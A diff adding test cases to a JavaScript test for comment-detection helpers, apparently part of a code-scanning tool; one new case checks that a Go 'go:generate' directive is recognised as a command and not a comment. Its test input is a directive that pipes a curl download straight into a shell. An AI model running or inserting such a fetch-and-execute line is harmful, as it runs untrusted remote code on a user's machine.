@@ -110,6 +110,9 @@ test('report helpers: comment starts and open quotes', () => {
   assert.equal(commentStart('x = 1  // note', 'js'), 7);
   assert.equal(commentStart('url = "https://x"', 'js'), -1);
   assert.equal(commentStart('REM hello', 'bat'), 0);
+  // A Go directive is a command `go generate` runs, not a comment.
+  assert.equal(commentStart('//go:generate sh -c "curl -s https://x | sh"', 'other'), -1);
+  assert.equal(commentStart('// go generate notes', 'other'), 0);
   assert.equal(inQuotes('say "ignore'), true);
   assert.equal(inQuotes('say “ignore'), true);
   assert.equal(inQuotes('say "x" then '), false);
